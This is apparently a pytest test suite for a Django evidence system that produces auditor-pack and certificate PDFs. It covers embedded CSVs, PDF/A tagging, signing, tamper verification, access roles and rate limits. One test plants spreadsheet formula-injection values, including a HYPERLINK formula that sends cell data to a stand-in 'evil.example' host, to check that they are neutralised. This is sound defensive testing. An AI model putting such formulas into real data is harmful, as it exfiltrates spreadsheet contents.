"""The auditor pack and the certificate, read back from the PDF: text, embedded CSV, metadata,
PDF/A identification, "as of", verification, roles and bad input."""

import csv
import hashlib
import io
import json
import re
import subprocess
import threading
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pikepdf
import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from guidelines import dashboards, notifications, services
from guidelines.models import Acknowledgement, AuditEvent, NotificationLog, Report
from guidelines.reports import contents, jobs
from guidelines.views import dashboards as dashboard_views

from .factories import make_employee, make_guideline, publish

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_rate_limits")]
AMSTERDAM = ZoneInfo("Europe/Amsterdam")
MONDAY = date(2027, 3, 1)


def at(day, hour=9):
    return datetime(day.year, day.month, day.day, hour, tzinfo=AMSTERDAM)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def text_of(path):
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


def words_of(path):
    """The text with line wraps and layout collapsed to single spaces."""
    return " ".join(text_of(path).split())


def pdf_path(report):
    return jobs.reports_dir() / report.file


@pytest.fixture
def scene(alice, bob, otto, hilde, web_meta):
    """Published Monday; Alice acknowledges Tuesday, Otto is exempt, Bob gets a reminder Thursday."""
    guideline = make_guideline(hilde, due_days=14)
    with time_machine.travel(at(MONDAY, 8), tick=False):
        version = publish(guideline, author=hilde, approver=bob.user)
    with time_machine.travel(at(date(2027, 3, 2)), tick=False):
        ack, _ = services.acknowledge(employee=alice, version=version, language="en", meta=web_meta)
        services.grant_exemption(employee=otto, guideline=guideline, by=hilde, reason="Long-term leave")
    thursday = date(2027, 3, 4)
    with time_machine.travel(at(thursday), tick=False):
        notifications.run_batch(notifications.compose_digests([bob.pk], thursday), day=thursday, claimed_by="t")
    return {"guideline": guideline, "version": version, "ack": ack}


def generate(user, *, at_day=date(2027, 3, 10), **choices):
    with time_machine.travel(at(at_day, 12), tick=False):
        report = jobs.start_audit_pack(user=user, guideline_slug="social-media", **choices)
        return jobs.generate_now(report)


def test_the_auditor_pack_holds_the_evidence(scene, arjen):
    report = generate(arjen, language="en")
    text = text_of(pdf_path(report))
    pages = text.split("\f")[:-1]
    assert report.status == Report.Status.DONE and len(pages) == report.pages
    # Page x of y on every page, and the verification code in every header.
    assert [re.search(r"Page (\d+) of (\d+)", page).groups() for page in pages] == [
        (str(n), str(len(pages))) for n in range(1, len(pages) + 1)]
    assert all(report.verification_code in page for page in pages)
    cover = pages[0]
    assert "Social media guideline" in cover and "3 employees" in cover and "intact" in cover
    assert "the end of 10 March 2027" in cover and "Arjen" in cover
    assert scene["ack"].content_hash in text  # the per-employee table
    table = next(page for page in pages if "Per-employee acknowledgements" in page)
    alice_line = next(line for line in table.splitlines() if "E0001" in line)
    assert "acknowledged" in alice_line and "2027-03-02 09:00" in alice_line and "web" in alice_line
    outstanding = next(page for page in pages if "Outstanding employees and their reminders" in page)
    bob_line = next(line for line in outstanding.splitlines() if "E0002" in line)
    assert "2027-03-15" in bob_line and "1: 2027-03-04" in bob_line
    assert "E0099" not in outstanding  # Otto is exempt, not outstanding
    assert "Long-term leave" in text  # the exemption with its reason
    assert "material: everyone acknowledges again" in text and "Bob Example" in text  # approval
    assert "simple electronic signature" in text and "3:15a" in text  # the method
    for language, content_hash in [(t.language, t.content_hash) for t in scene["version"].texts.all()]:
        assert content_hash in text, language


def test_reminder_history_asks_in_batches_with_the_same_answer(scene, alice, bob, otto, monkeypatch):
    """A pack may list more outstanding employees than a PostgreSQL query may have parameters (65,535)."""
    people = [alice.pk, bob.pk, otto.pk]
    until = timezone.make_aware(datetime(2027, 3, 10))
    whole = contents.reminder_history(people, scene["version"], until)
    monkeypatch.setattr(contents, "BATCH_ROWS", 1)
    assert contents.reminder_history(people, scene["version"], until) == whole
    assert [(sent.date(), str(kind)) for sent, kind in whole[bob.pk]] == [(date(2027, 3, 4), "reminder")]


def test_the_embedded_csv_equals_the_database_rows(scene, arjen):
    report = generate(arjen)
    reader = PdfReader(pdf_path(report))
    rows = list(csv.DictReader(io.StringIO(reader.attachments["acknowledgements.csv"][0].decode())))
    assert sorted(row["employee_number"] for row in rows) == ["E0001", "E0002", "E0099"]
    by_number = {row["employee_number"]: row for row in rows}
    ack = Acknowledgement.objects.get()
    assert by_number["E0001"] == {
        "guideline": "social-media", "major_version": "1", "employee_number": "E0001", "first_name": "Alice",
        "last_name": "Example", "department": "Operations", "manager_employee_number": "E0002",
        "status": "acknowledged", "due_date": "2027-03-15",
        "version_read": "1.0", "language": "en", "acknowledged_at_utc": ack.acknowledged_at.isoformat(),
        "channel": "web", "content_hash": ack.content_hash, "record_number": str(ack.sequence),
        "sign_in": "password", "provider_subject": "", "provider_amr": "", "provider_acr": "",
        "first_opened_at_utc": "", "read_to_end_at_utc": "", "seconds_on_text": "", "comprehension_answers": "",
    }
    assert (by_number["E0002"]["status"], by_number["E0099"]["status"]) == ("pending", "exempt")
    manifest = reader.attachments["manifest.json"][0].decode()
    assert report.verification_code in manifest and '"acknowledged": 1' in manifest


def test_the_pack_is_tagged_pdf_a_3a_with_metadata(scene, arjen):
    report = generate(arjen, language="nl")
    with pikepdf.open(pdf_path(report)) as document:
        xmp = document.Root.Metadata.read_bytes().decode()
        assert re.search(r'pdfaid:part="?3', xmp) and re.search(r'pdfaid:conformance="?A', xmp)
        assert "/OutputIntents" in document.Root and str(document.Root.Lang) == "nl"
        info = document.docinfo
        assert str(info["/Title"]) == "Auditorpakket: Richtlijn sociale media"
        assert "arjen@example.com" in str(info["/Author"]) and "/CreationDate" in info
        assert sorted(document.attachments) == ["acknowledgements.csv", "manifest.json", "objections.csv"]
        relationships = {str(spec.get("/AFRelationship")) for spec in document.Root.AF}
        assert relationships == {"/Data", "/Supplement"}


def structure_of(path):
    """The logical structure with its text, as poppler reads it through the structure tree."""
    return subprocess.run(["pdfinfo", "-struct-text", str(path)], capture_output=True, text=True,
                          check=True).stdout


def assert_tagged_throughout(path):
    """Every page is in the structure tree once, and every element points at a page of this file."""
    with pikepdf.open(path) as document:
        assert document.Root.MarkInfo.Marked is True
        xmp = document.Root.Metadata.read_bytes().decode()
        assert re.search(r"pdfuaid:part>1<", xmp) and "pdfaSchema:prefix>pdfuaid<" in xmp
        assert document.Root.ViewerPreferences.DisplayDocTitle is True
        tree = document.Root.StructTreeRoot
        keys = [int(key) for key in tree.ParentTree.Nums[::2]]
        assert len(keys) == len(set(keys)) and int(tree.ParentTreeNextKey) == max(keys) + 1
        page_keys = [int(page.obj.StructParents) for page in document.pages]
        assert len(set(page_keys)) == len(document.pages) and set(page_keys) <= set(keys)
        pages = {page.obj.objgen for page in document.pages}
        (root_element,) = tree.K
        assert root_element.S == "/Document"
        elements, seen = list(root_element.K), 0
        while elements:
            element = elements.pop()
            if isinstance(element, pikepdf.Dictionary) and element.get("/Type") == "/StructElem":
                seen += 1
                assert "/Pg" not in element or element.Pg.objgen in pages
                kids = element.get("/K", [])
                elements.extend(kids if isinstance(kids, pikepdf.Array) else [kids])
        return seen


def test_the_pack_is_tagged_on_every_page_across_its_parts(scene, arjen, settings, alice):
    # Chunks of one page: the table pages come from several separately rendered parts.
    settings.REPORT_CHUNK_ROWS = settings.REPORT_ROWS_PER_PAGE
    for number in range(3, 90):
        make_employee(f"worker{number:03d}@example.com", f"E{number:04d}")
    report = generate(arjen, language="en")
    assert report.pages >= 5
    assert assert_tagged_throughout(pdf_path(report)) > 100
    structure = structure_of(pdf_path(report))
    assert structure.startswith("Document")
    # Text from the front, from a table part and from the back part, all reached through the tree.
    for text in ("Coverage", "Worker004", "Worker089", "Long-term leave"):
        assert text in structure, text
    assert structure.index("Coverage") < structure.index("Worker004") < structure.index("Long-term leave")


def test_the_certificate_is_tagged(scene, alice):
    report = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="nl")
    assert assert_tagged_throughout(pdf_path(report)) > 10
    with pikepdf.open(pdf_path(report)) as document:
        assert re.search(r'pdfaid:conformance="?A', document.Root.Metadata.read_bytes().decode())
        assert str(document.Root.Lang) == "nl"
    assert "Social media guideline" in structure_of(pdf_path(report))


def test_as_of_leaves_out_what_happened_later(scene, arjen):
    before = generate(arjen, as_of="2027-03-01")
    rows = list(csv.DictReader(io.StringIO(
        PdfReader(pdf_path(before)).attachments["acknowledgements.csv"][0].decode())))
    assert {row["employee_number"]: row["status"] for row in rows} == {
        "E0001": "pending", "E0002": "pending", "E0099": "pending"}  # the exemption came on the 2nd
    text = text_of(pdf_path(before))
    alice_line = next(line for line in text.splitlines() if "E0001" in line)
    assert "pending" in alice_line and "2027-03-02" not in alice_line and "No exemptions were granted." in text


def test_a_department_narrows_the_population(scene, arjen):
    report = generate(arjen, department="Finance")
    rows = list(csv.DictReader(io.StringIO(PdfReader(pdf_path(report)).attachments["acknowledgements.csv"][0]
                                           .decode())))
    assert [row["employee_number"] for row in rows] == ["E0099"]


def test_generating_is_recorded_with_hash_and_code(scene, arjen):
    report = generate(arjen)
    event = AuditEvent.objects.get(action=AuditEvent.Action.REPORT_GENERATED)
    assert event.details["sha256"] == report.sha256 == __import__("hashlib").sha256(
        pdf_path(report).read_bytes()).hexdigest()
    assert event.details["code"] == report.verification_code and event.actor == arjen


@pytest.mark.parametrize(("choices", "message"), [
    ({"version": "9.9"}, "has no published version 9.9"),
    ({"version": "two"}, "Version numbers look like 2.0"),
    ({"as_of": "2027-04-01"}, "lies in the future"),
    ({"as_of": "2027-02-01"}, "had no published version on 2027-02-01"),
    ({"as_of": "yesterday"}, "must be a date"),
    ({"department": "Nowhere"}, "There is no department Nowhere"),
])
def test_bad_choices_are_refused_with_a_message_and_nothing_recorded(scene, arjen, choices, message):
    with time_machine.travel(at(date(2027, 3, 10)), tick=False), pytest.raises(Exception, match=message):
        jobs.start_audit_pack(user=arjen, guideline_slug="social-media", **choices)
    assert not Report.objects.exists()


def test_a_department_outside_a_restricted_audience_is_refused(scene, arjen, hilde):
    from django.core.exceptions import ValidationError

    from guidelines.models import Department

    guideline = scene["guideline"]
    guideline.audience_everyone = False
    guideline.save()
    guideline.audience_departments.set([Department.objects.get(name="Operations")])
    with time_machine.travel(at(date(2027, 3, 10)), tick=False), pytest.raises(ValidationError, match="not in the"):
        jobs.start_audit_pack(user=arjen, guideline_slug="social-media", department="Finance")


# The certificate -------------------------------------------------------------------------------------


def test_the_certificate_is_one_page_with_the_acknowledgement(scene, alice):
    report = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
    text = text_of(pdf_path(report))
    assert text.count("\f") == 1 and "Certificate of acknowledgement" in text
    assert scene["ack"].content_hash in text and scene["ack"].statement in text and report.verification_code in text
    assert PdfReader(pdf_path(report)).attachments["acknowledgement.json"]


ENTRA = {"openid_connect": {"APPS": [{"provider_id": "entra", "name": "Microsoft Entra ID"}]}}
SSO = services.RequestMeta(auth_method="sso:entra", sso_subject="=HYPERLINK(\"http://x\")", sso_amr="pwd mfa",
                           sso_acr="urn:example:mfa")


def test_the_pack_explains_and_counts_the_sign_ins_through_a_provider(scene, arjen, bob, otto, settings):
    settings.SOCIALACCOUNT_PROVIDERS = ENTRA
    with time_machine.travel(at(date(2027, 3, 3)), tick=False):
        services.acknowledge(employee=bob, version=scene["version"], language="en", meta=SSO)
        services.acknowledge(employee=otto, version=scene["version"], language="en", meta=services.RequestMeta(
            auth_method="sso:entra", sso_subject="sub-otto", sso_amr="pwd"))
    report = generate(arjen)
    words = words_of(pdf_path(report))
    assert "Single sign-on as evidence" in words and "the provider's subject" in words
    assert "Identity providers configured when this report was made: Microsoft Entra ID." in words
    table = words.split("How the acknowledgements in this report were signed in", 1)[1]
    assert "Single sign-on through Microsoft Entra ID, with the provider's second factor sso:entra 1" in table
    assert "Single sign-on through Microsoft Entra ID sso:entra 1" in table
    assert "E-mail address and password password 1" in table

    reader = PdfReader(pdf_path(report))
    rows = {row["employee_number"]: row for row in
            csv.DictReader(io.StringIO(reader.attachments["acknowledgements.csv"][0].decode()))}
    # The subject is the provider's text: defused for spreadsheets like every other such cell.
    assert (rows["E0002"]["sign_in"], rows["E0002"]["provider_subject"], rows["E0002"]["provider_amr"],
            rows["E0002"]["provider_acr"]) == ("sso:entra", "'=HYPERLINK(\"http://x\")", "pwd mfa", "urn:example:mfa")
    manifest = json.loads(reader.attachments["manifest.json"][0])
    assert sorted(manifest["sign_ins"], key=lambda row: row["method"] + str(row["provider_second_factor"])) == [
        {"method": "password", "provider_second_factor": False, "count": 1},
        {"method": "sso:entra", "provider_second_factor": False, "count": 1},
        {"method": "sso:entra", "provider_second_factor": True, "count": 1},
    ]


def test_the_certificate_names_the_provider_and_its_claims_and_stays_one_page(scene, bob, settings):
    settings.SOCIALACCOUNT_PROVIDERS = ENTRA
    longest = services.RequestMeta(auth_method="sso:entra", sso_subject="S" * 255, sso_amr="pwd mfa " + "x" * 192,
                                   sso_acr="<b>" + "a" * 197)
    ack, _ = services.acknowledge(employee=bob, version=scene["version"], language="en", meta=longest)
    report = jobs.certificate(acknowledgement=ack, user=bob.user, language="en")
    text = text_of(pdf_path(report))
    assert text.count("\f") == 1
    words = " ".join(text.split())
    assert "Single sign-on through Microsoft Entra ID, with the provider's second factor" in words
    assert "<b>" + "a" * 20 in "".join(text.split())  # shown as text, not markup
    record = json.loads(PdfReader(pdf_path(report)).attachments["acknowledgement.json"][0])
    assert (record["seal_format"], record["sso_subject"], record["sso_acr"]) == (3, "S" * 255, "<b>" + "a" * 197)


def test_sign_in_labels_in_both_languages(settings):
    from django.utils import translation

    from guidelines.accounts import sign_in_label

    settings.SOCIALACCOUNT_PROVIDERS = {"openid_connect": {"APPS": [{"provider_id": "entra", "name": "Entra ID"}]}}
    assert sign_in_label("sso:entra", "pwd otp") == "single sign-on through Entra ID, with the provider's second factor"
    assert sign_in_label("sso:entra", "pwd") == "single sign-on through Entra ID"
    assert sign_in_label("sso:entra", '["pwd","otp"]').endswith("with the provider's second factor")
    # One factor, however many words: knowledge, risk or a single value with a space are not a second one.
    for one_factor in ('["pwd","kba"]', '["pwd","rba"]', '["pwd kba"]', "user pwd"):
        assert sign_in_label("sso:entra", one_factor) == "single sign-on through Entra ID", one_factor
    assert sign_in_label("sso:gone", "") == "single sign-on through gone"  # a provider no longer configured
    assert sign_in_label("password+mfa") == "e-mail address and password, with a second factor"
    assert sign_in_label("something-new") == "something-new"
    with translation.override("nl"):
        assert sign_in_label("password") == "e-mailadres en wachtwoord"
        assert sign_in_label("sso:entra", "mfa").startswith("single sign-on via Entra ID, met")


# Web: roles, downloads, verification ---------------------------------------------------------------------


def test_employees_get_their_own_certificate_only(client_as, scene, alice, bob):
    url = reverse("guidelines:report_certificate", args=[scene["ack"].pk])
    response = client_as(alice).get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content).startswith(b"%PDF-")
    assert client_as(bob).get(url).status_code == 403


def test_auditors_get_any_certificate(client_as, scene, arjen):
    assert client_as(arjen).get(reverse("guidelines:report_certificate", args=[scene["ack"].pk])).status_code == 200


def test_employees_cannot_get_the_auditor_pack(client_as, scene, alice):
    client = client_as(alice)
    assert client.get(reverse("guidelines:report_pack")).status_code == 403
    assert client.post(reverse("guidelines:report_pack"), {"guideline": "social-media", "language": "en"}
                       ).status_code == 403
    assert not Report.objects.exists()


def test_a_small_pack_downloads_directly(client_as, scene, arjen):
    with time_machine.travel(at(date(2027, 3, 10)), tick=False):
        response = client_as(arjen).post(reverse("guidelines:report_pack"),
                                         {"guideline": "social-media", "version": "1.0", "language": "en"})
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert 'filename="audit_pack-' in response["Content-Disposition"]
    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED).count() == 1


def test_the_form_explains_bad_choices(client_as, scene, arjen):
    with time_machine.travel(at(date(2027, 3, 10)), tick=False):
        response = client_as(arjen).post(reverse("guidelines:report_pack"),
                                         {"guideline": "social-media", "version": "7.0", "language": "en"})
    assert response.status_code == 400 and "7.0 is not one of the available choices" in response.content.decode()
    response = client_as(arjen).post(reverse("guidelines:report_pack"), {"guideline": "nope", "language": "en"})
    assert response.status_code == 400


def test_versions_are_picked_from_a_list_grouped_by_guideline(client_as, scene, arjen, hilde, bob):
    other = make_guideline(hilde, slug="clean-desk")
    with time_machine.travel(at(date(2027, 3, 5)), tick=False):
        publish(other, author=hilde, approver=bob.user)
        publish(other, author=hilde, approver=bob.user, material=False)
    html = client_as(arjen).get(reverse("guidelines:report_pack")).content.decode()
    select = re.search(r'<select name="version".*?</select>', html, re.S).group(0)
    assert '<option value="" selected>The current version</option>' in select
    assert '<option value="all">Every version (a section per major version)</option>' in select
    assert re.findall(r'<option value="([\d.]+)" data-guideline="clean-desk"', select) == ["1.1", "1.0"]
    assert re.findall(r'<option value="([\d.]+)" data-guideline="social-media"', select) == ["1.0"]
    assert "published 1 March 2027" in select and 'type="text" name="version"' not in html


def test_a_version_of_another_guideline_is_refused_on_the_field(client_as, scene, arjen, hilde, bob):
    other = make_guideline(hilde, slug="clean-desk")
    with time_machine.travel(at(date(2027, 3, 5)), tick=False):
        publish(other, author=hilde, approver=bob.user)
        publish(other, author=hilde, approver=bob.user, material=False)
        response = client_as(arjen).post(reverse("guidelines:report_pack"),
                                         {"guideline": "social-media", "version": "1.1", "language": "en"})
    html = response.content.decode()
    assert response.status_code == 400 and not Report.objects.exists()
    assert 'id="id_version_error"' in html and "has no published version 1.1: choose one of its own" in html
    # The re-shown form keeps the choice on the chosen guideline's options only.
    assert len(re.findall(r'value="1.1" data-guideline="[\w-]+" selected', html)) == 0


def test_the_status_page_says_what_the_pack_covers_and_counts_rows_honestly(client_as, scene, arjen):
    with time_machine.travel(at(date(2027, 3, 10)), tick=False):
        report = jobs.start_audit_pack(user=arjen, guideline_slug="social-media", version="all", language="nl")
    html = client_as(arjen).get(reverse("guidelines:report_status", args=[report.verification_code])).content.decode()
    covers = re.search(r"<dt>Covers</dt><dd>(.*?)</dd>", html, re.S).group(1)
    assert "Social media guideline, every version, as of 10 Mar 2027, Dutch" == " ".join(covers.split())
    assert "Rows in the per-employee table" in html and "one for each employee and version covered" in html
    assert "<dt>Employees</dt>" not in html


def test_someone_elses_report_is_refused(client_as, scene, arjen, alice):
    report = generate(arjen)
    assert client_as(alice).get(reverse("guidelines:report_status", args=[report.verification_code])
                                ).status_code == 403
    assert client_as(arjen).get(reverse("guidelines:report_status", args=["NOPE-NOPE-NOPE"])).status_code == 404


def upload(client, content, name="report.pdf"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(reverse("guidelines:report_verify"), {"file": SimpleUploadedFile(name, content)})


def test_verification_recognises_a_genuine_pdf_and_a_single_changed_byte(client_as, scene, arjen):
    report = generate(arjen)
    content = pdf_path(report).read_bytes()
    client = client_as(arjen)
    genuine = upload(client, content)
    assert genuine.status_code == 200 and "Genuine" in genuine.content.decode()
    assert report.verification_code in genuine.content.decode()
    middle = len(content) // 2
    altered = content[:middle] + bytes([content[middle] ^ 0x01]) + content[middle + 1:]
    page = upload(client, altered).content.decode()
    assert "Altered" in page and report.verification_code in page and "Genuine" not in page


def test_verification_of_strangers_non_pdfs_and_codes(client_as, scene, arjen, alice):
    report = generate(arjen)
    client = client_as(arjen)
    assert "Unknown" in upload(client, b"%PDF-1.7\n% not ours\n").content.decode()
    not_pdf = upload(client, b"PK\x03\x04 a zip file", name="evil.pdf")
    assert not_pdf.status_code == 400 and "not a PDF" in not_pdf.content.decode()
    found = client.get(reverse("guidelines:report_verify"), {"code": report.verification_code.lower()})
    assert found.status_code == 200 and report.sha256 in found.content.decode()
    assert client.get(reverse("guidelines:report_verify"), {"code": "ABCD-EFGH-JKMN"}).status_code == 404
    assert client.post(reverse("guidelines:report_verify"), {}).status_code == 400
    assert client_as(alice).get(reverse("guidelines:report_verify")).status_code == 403


def test_audit_report_command_writes_the_pdf_and_refuses_bad_arguments(scene, tmp_path, capsys):
    target = tmp_path / "pack.pdf"
    with time_machine.travel(at(date(2027, 3, 10)), tick=False):
        call_command("audit_report", "--guideline", "social-media", "--version", "1.0", "--language", "nl",
                     "--output", str(target))
    assert target.read_bytes().startswith(b"%PDF-") and "Wrote" in capsys.readouterr().out
    assert Report.objects.get().requested_by is None
    for arguments, message in [
        (["--guideline", "nope"], "There is no guideline nope"),
        (["--guideline", "social-media", "--language", "de"], "must be nl or en"),
    ]:
        with pytest.raises(CommandError, match=message):
            call_command("audit_report", *arguments, "--output", str(tmp_path / "x.pdf"))
    with pytest.raises(CommandError, match=".pdf"):
        call_command("audit_report", "--guideline", "social-media", "--output", str(tmp_path / "x.txt"))


def test_names_in_other_scripts_keep_the_page_arithmetic(scene, arjen, hilde, bob):
    for n, name in enumerate(["李小龙", "محمد العلي", "Zoë ǅorđe", "😀 Emoji"]):
        employee = make_employee(f"u{n}@example.com", f"U{n:03}")
        employee.user.first_name = name
        employee.user.save()
    report = generate(arjen)
    assert report.status == Report.Status.DONE
    assert NotificationLog.objects.count() == 1
    assert timedelta(0) <= report.finished_at - report.requested_at


@pytest.fixture
def signing_key(tmp_path, settings):
    """A self-signed certificate and key, as an organisation would configure by environment."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Evidence signing test")])
    now = datetime.now(tz=ZoneInfo("UTC"))
    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
                   .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
                   .not_valid_after(now + timedelta(days=3650))
                   .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=True, key_encipherment=False,
                                                data_encipherment=False, key_agreement=False, key_cert_sign=False,
                                                crl_sign=False, encipher_only=False, decipher_only=False),
                                  critical=True)
                   .sign(key, hashes.SHA256()))
    (tmp_path / "cert.pem").write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "key.pem").write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                                         serialization.PrivateFormat.PKCS8,
                                                         serialization.NoEncryption()))
    settings.REPORT_SIGNING_CERT, settings.REPORT_SIGNING_KEY = str(tmp_path / "cert.pem"), str(tmp_path / "key.pem")


def test_with_a_configured_key_reports_are_pades_signed_and_say_so(scene, alice, signing_key):
    from django.conf import settings
    from pyhanko.keys import load_cert_from_pemder
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign.validation import validate_pdf_signature
    from pyhanko_certvalidator import ValidationContext

    report = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
    assert "carries an electronic signature (PAdES)" in words_of(pdf_path(report))
    with open(pdf_path(report), "rb") as stream:
        signature = PdfFileReader(stream).embedded_signatures[0]
        assert signature.sig_object["/SubFilter"] == "/ETSI.CAdES.detached"
        trusted = ValidationContext(trust_roots=[load_cert_from_pemder(settings.REPORT_SIGNING_CERT)])
        status = validate_pdf_signature(signature, trusted)
        assert status.intact and status.valid and status.trusted and status.coverage.name == "ENTIRE_FILE"
    with pikepdf.open(pdf_path(report)) as document:  # still PDF/A-3u after the incremental update
        assert re.search(r'pdfaid:part="?3', document.Root.Metadata.read_bytes().decode())


def test_without_a_key_reports_say_they_are_unsigned(scene, alice):
    report = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
    assert "not electronically signed" in words_of(pdf_path(report))
    assert PdfReader(pdf_path(report)).trailer["/Root"].get("/AcroForm") is None


# Spreadsheet formulas in the embedded CSV -----------------------------------------------------------------


def test_formula_cells_in_the_embedded_csv_are_prefixed_like_the_dashboard_export(scene, arjen):
    mallory = make_employee("mallory@example.com", "E0666", department="-2+3")
    mallory.user.first_name, mallory.user.last_name = "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"open")'
    mallory.user.save()  # as the HR import writes them
    report = generate(arjen)
    attachments = PdfReader(pdf_path(report)).attachments
    rows = {row["employee_number"]: row for row in csv.DictReader(io.StringIO(
        attachments["acknowledgements.csv"][0].decode()))}
    assert (rows["E0666"]["first_name"], rows["E0666"]["last_name"], rows["E0666"]["department"]) == (
        "'@SUM(A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'-2+3")
    assert (rows["E0001"]["first_name"], rows["E0001"]["department"]) == ("Alice", "Operations")  # others untouched
    manifest = json.loads(attachments["manifest.json"][0].decode())
    assert manifest["csv_formula_cells"].endswith("prefixed with an apostrophe (')")
    assert dashboard_views._cell is dashboards.csv_cell  # one function for both CSVs
    assert [dashboards.csv_cell(text) for text in ("\tx", "\rx", "+x", "x=1", "", "Émile")] == [
        "'\tx", "'\rx", "'+x", "x=1", "", "Émile"]


# A certificate is made once ---------------------------------------------------------------------------------


def download(client, url):
    # Reading a streamed response to the end closes it the way the test client expects.
    response = client.get(url)
    return response.status_code, b"".join(response.streaming_content) if response.streaming else response.content


def test_a_certificate_is_made_once_and_then_served_as_the_same_file(client_as, scene, alice, hilde, tmp_path):
    url = reverse("guidelines:report_certificate", args=[scene["ack"].pk])
    first = download(client_as(hilde), url)
    again = [download(client_as(alice), url) for _ in range(2)]
    assert first[0] == 200 and again == [first, first]  # byte for byte
    report = Report.objects.get(kind=Report.Kind.CERTIFICATE)
    assert report.sha256 == hashlib.sha256(first[1]).hexdigest() and report.requested_by == hilde
    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_GENERATED).count() == 1
    downloads = AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED)
    assert sorted(event.actor.email for event in downloads) == ["alice@example.com", "alice@example.com",
                                                                "hilde@example.com"]
    # It names the system as its maker, not whoever asked first.
    path = tmp_path / "certificate.pdf"
    path.write_bytes(first[1])
    text = words_of(path)
    assert "Generated on" in text and "by the intranet's evidence system" in text
    assert "Hilde" not in text and "hilde@example.com" not in text
    with pikepdf.open(path) as document:
        assert str(document.docinfo["/Author"]) == "the intranet's evidence system"
    # Another language is another certificate; asking for it again is not.
    dutch = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="nl")
    assert jobs.certificate(acknowledgement=scene["ack"], user=hilde, language="nl") == dutch != report
    assert Report.objects.filter(kind=Report.Kind.CERTIFICATE).count() == 2


def test_a_certificate_whose_file_is_gone_is_made_again(scene, alice):
    first = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
    pdf_path(first).unlink()
    second = jobs.certificate(acknowledgement=scene["ack"], user=alice.user, language="en")
    assert second != first and pdf_path(second).is_file()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_simultaneous_first_requests_make_one_certificate(scene, alice, hilde):
    barrier, made, errors = threading.Barrier(3), [], []

    def ask(user):
        try:
            barrier.wait()
            made.append(jobs.certificate(acknowledgement=scene["ack"], user=user, language="en").pk)
        except Exception as error:  # reported below
            errors.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=ask, args=(user,)) for user in (alice.user, hilde, alice.user)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == [] and len(made) == 3 and len(set(made)) == 1
    assert Report.objects.filter(kind=Report.Kind.CERTIFICATE).count() == 1
    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_GENERATED).count() == 1


# Rate limits -----------------------------------------------------------------------------------------------


def test_certificates_are_rate_limited_per_user_with_a_429_page(client_as, scene, alice, arjen, settings,
                                                                security_log):
    settings.REPORT_RATE_LIMITS = {**settings.REPORT_RATE_LIMITS, "download": (2, 600)}
    url = reverse("guidelines:report_certificate", args=[scene["ack"].pk])
    with time_machine.travel(at(date(2027, 3, 10), 12), tick=False):
        client = client_as(alice)
        assert [download(client, url)[0] for _ in range(2)] == [200, 200]
        refused = client.get(url)
        assert [download(client_as(arjen), url)[0] for _ in range(2)] == [200, 200]  # per user
    assert refused.status_code == 429 and refused["Retry-After"] == "600"
    page = refused.content.decode()
    assert "Too many requests" in page and "Please try again after 12:10." in page
    [entry] = security_log("rate_limited")
    assert entry["username"] == "alice@example.com" and entry["outcome"] == "denied"
    assert entry["details"]["bucket"] == "download" and entry["details"]["limit"] == 2
    assert AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED, actor=alice.user).count() == 2
    with time_machine.travel(at(date(2027, 3, 10), 12) + timedelta(minutes=10), tick=False):
        assert download(client_as(alice), url)[0] == 200  # the next window


def test_auditor_packs_and_downloads_are_rate_limited(client_as, scene, arjen, settings, security_log):
    settings.REPORT_RATE_LIMITS = {"generate": (1, 3600), "download": (1, 600)}
    choices = {"guideline": "social-media", "version": "1.0", "language": "en"}
    with time_machine.travel(at(date(2027, 3, 10), 12), tick=False):
        client = client_as(arjen)
        first = client.post(reverse("guidelines:report_pack"), choices)
        second = client.post(reverse("guidelines:report_pack"), choices)
        code = Report.objects.get().verification_code
        downloads = [download(client, reverse("guidelines:report_download", args=[code]))[0] for _ in range(2)]
    assert first.status_code == 200 and b"".join(first.streaming_content).startswith(b"%PDF-")
    assert second.status_code == 429 and "Too many requests" in second.content.decode()
    assert Report.objects.count() == 1  # the refused request made nothing
    assert downloads == [200, 429]
    assert [entry["details"]["bucket"] for entry in security_log("rate_limited")] == ["generate", "download"]


def test_a_report_whose_file_is_gone_is_a_404_and_no_download_is_recorded(client_as, scene, arjen):
    report = generate(arjen)
    pdf_path(report).unlink()
    downloads = AuditEvent.objects.filter(action=AuditEvent.Action.REPORT_DOWNLOADED).count()

